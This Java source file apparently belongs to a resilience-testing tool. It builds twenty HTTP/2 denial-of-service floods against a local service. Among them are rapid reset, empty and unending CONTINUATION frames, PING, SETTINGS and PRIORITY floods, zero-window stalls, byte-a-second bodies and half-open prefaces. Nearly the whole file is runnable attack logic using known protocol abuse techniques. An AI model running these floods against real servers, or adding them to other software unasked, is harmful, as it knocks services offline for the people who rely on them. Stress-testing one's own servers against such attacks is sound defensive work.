package dev.sluice.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.sluice.attack.Script.Part;
import dev.sluice.http.Http2Frames;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;

/** Floods over HTTP/2 with prior knowledge. */
final class Http2Attacks {

    private static final int LARGEST = Integer.MAX_VALUE;
    private static final int STEPS_IN_A_PART = 64;
    private static final int STREAMS_AT_ONCE = 100;
    private static final int LARGEST_FRAME = 16_384;
    private static final byte[] DATA = "{\"total\":12.50}".getBytes(US_ASCII);

    private Http2Attacks() {}

    /** All of them. */
    static List<Attack> all() {
        return List.of(
                Flood.read("HTTP/2 streams without an end", "requests", 2, streams(STARTED_EVENT)),
                Flood.read("HTTP/2 zero windows, GET /q/metrics", "requests", 2, shut(get("/q/metrics"))),
                Flood.read("HTTP/2 zero windows, bad events", "requests", 2, shut(post("/", List.of()))),
                Flood.unread("HTTP/2 answers never read", "requests", 2, streams(get("/"))),
                Flood.unread("HTTP/2 answers never read, /q/metrics", "requests", 2, streams(get("/q/metrics"))),
                Flood.read("HTTP/2 GET flood", "requests", 2, streams(get("/"))),
                Flood.read("HTTP/2 404 flood", "requests", 2, streams(post("/nowhere", List.of()))),
                Flood.read("HTTP/2 event flood", "requests", 2, streams(Http2Attacks::event)),
                Flood.unread("HTTP/2 PING flood", "frames", 2, streams(Http2Attacks::ping)),
                Flood.unread("HTTP/2 SETTINGS flood", "frames", 2, streams(frames -> frames.settings(Map.of()))),
                Flood.read("HTTP/2 PRIORITY flood", "frames", 2, streams(Http2Attacks::priority)),
                Flood.read("HTTP/2 empty CONTINUATION flood", "frames", 2, continuations(new byte[0])),
                Flood.read("HTTP/2 CONTINUATION without an end", "frames", 2, continuations(bigField())),
                Flood.read("HTTP/2 rapid reset", "requests", 2, streams(Http2Attacks::eventAndReset)),
                Flood.read("HTTP/2 resets that the function makes", "requests", 2, streams(Http2Attacks::madeToReset)),
                Flood.read("HTTP/2 empty DATA flood", "frames", 2, onOneStream(Http2Attacks::emptyData)),
                Flood.read("HTTP/2 WINDOW_UPDATE flood", "frames", 2, onOneStream(Http2Attacks::windowUpdate)),
                Flood.slow("HTTP/2 1,200 bodies, a byte a second", "frames", 12, Http2Attacks::slowBodies),
                Flood.slow("HTTP/2 half a preface", Flood.CONNECTIONS, 1000, Http2Attacks::halfAPreface),
                Flood.slow("HTTP/2 silent connections", Flood.CONNECTIONS, 1000, Http2Attacks::settingsOnly));
    }

    /** Frames of one more step of a flood; the stream is a new one each time. */
    private interface Step {
        void add(Http2Frames frames, int stream);
    }

    private static final Step STARTED_EVENT = (frames, stream) -> frames.headers(stream, false, eventFields(stream));

    /** Windows as large as they can be, so that answers never wait. */
    private static Http2Frames open() {
        return new Http2Frames()
                .preface()
                .settings(Map.of(Http2Frames.INITIAL_WINDOW_SIZE, LARGEST))
                .settingsAck()
                .windowUpdate(0, LARGEST - 65_535);
    }

    private static Supplier<Script> streams(Step step) {
        return () -> script(open(), step);
    }

    private static Supplier<Script> streams(Consumer<Http2Frames> step) {
        return streams((frames, stream) -> step.accept(frames));
    }

    private static Supplier<Script> shut(Step step) {
        return () -> script(
                new Http2Frames()
                        .preface()
                        .settings(Map.of(Http2Frames.INITIAL_WINDOW_SIZE, 0))
                        .settingsAck(),
                step);
    }

    private static Supplier<Script> onOneStream(Consumer<Http2Frames> step) {
        return () -> script(open().headers(1, false, eventFields(1)), (frames, stream) -> step.accept(frames));
    }

    private static Supplier<Script> continuations(byte[] block) {
        byte[] start = Http2Frames.block(eventFields(1));
        return () -> script(
                open().frame(Http2Frames.HEADERS, 0, 1, start),
                (frames, stream) -> frames.frame(Http2Frames.CONTINUATION, 0, 1, block));
    }

    private static Script script(Http2Frames opening, Step step) {
        return new Script() {
            private int stream = -1;

            @Override
            public Part next() {
                if (stream < 0) {
                    stream = 1;
                    return new Part(opening.bytes(), 0);
                }
                Http2Frames frames = new Http2Frames();
                for (int i = 0; i < STEPS_IN_A_PART; i++) {
                    stream += 2;
                    step.add(frames, stream);
                }
                return new Part(frames.bytes(), STEPS_IN_A_PART);
            }
        };
    }

    private static List<Map.Entry<String, String>> request(
            String method, String path, List<Map.Entry<String, String>> fields) {
        List<Map.Entry<String, String>> all = new ArrayList<>(List.of(
                Map.entry(":method", method),
                Map.entry(":scheme", "http"),
                Map.entry(":path", path),
                Map.entry(":authority", "localhost")));
        all.addAll(fields);
        return all;
    }

    private static List<Map.Entry<String, String>> eventFields(int stream) {
        return request(
                "POST",
                "/",
                List.of(
                        Map.entry("ce-specversion", "1.0"),
                        Map.entry("ce-id", "attack-" + stream),
                        Map.entry("ce-source", "/attack"),
                        Map.entry("ce-type", "t"),
                        Map.entry("content-type", "application/json")));
    }

    private static Step get(String path) {
        return (frames, stream) -> frames.headers(stream, true, request("GET", path, List.of()));
    }

    private static Step post(String path, List<Map.Entry<String, String>> fields) {
        return (frames, stream) -> frames.headers(stream, true, request("POST", path, fields));
    }

    private static void event(Http2Frames frames, int stream) {
        frames.headers(stream, false, eventFields(stream)).data(stream, true, DATA);
    }

    private static void eventAndReset(Http2Frames frames, int stream) {
        event(frames, stream);
        frames.cancel(stream);
    }

    /** A window beyond the largest is an error of the stream, which the other side must end (RFC 9113, 6.9.1). */
    private static void madeToReset(Http2Frames frames, int stream) {
        event(frames, stream);
        frames.windowUpdate(stream, LARGEST);
    }

    private static void ping(Http2Frames frames) {
        frames.frame(Http2Frames.PING, 0, 0, new byte[8]);
    }

    private static void priority(Http2Frames frames, int stream) {
        frames.frame(Http2Frames.PRIORITY, 0, stream, new byte[5]);
    }

    private static void emptyData(Http2Frames frames) {
        frames.data(1, false, new byte[0]);
    }

    private static void windowUpdate(Http2Frames frames) {
        frames.windowUpdate(1, 1);
    }

    private static byte[] bigField() {
        return Http2Frames.block(List.of(Map.entry("x", "x".repeat(LARGEST_FRAME - 16))));
    }

    private static Script slowBodies() {
        Http2Frames heads = open();
        Http2Frames bytes = new Http2Frames();
        for (int i = 0; i < STREAMS_AT_ONCE; i++) {
            heads.headers(2 * i + 1, false, eventFields(i));
            bytes.data(2 * i + 1, false, new byte[] {'x'});
        }
        return Script.endless(new Part(heads.bytes(), STREAMS_AT_ONCE), new Part(bytes.bytes(), STREAMS_AT_ONCE));
    }

    private static Script halfAPreface() {
        return Script.once(new Part("PRI * HTTP/2.0\r\n".getBytes(US_ASCII), 0));
    }

    private static Script settingsOnly() {
        return Script.once(new Part(open().bytes(), 0));
    }
}
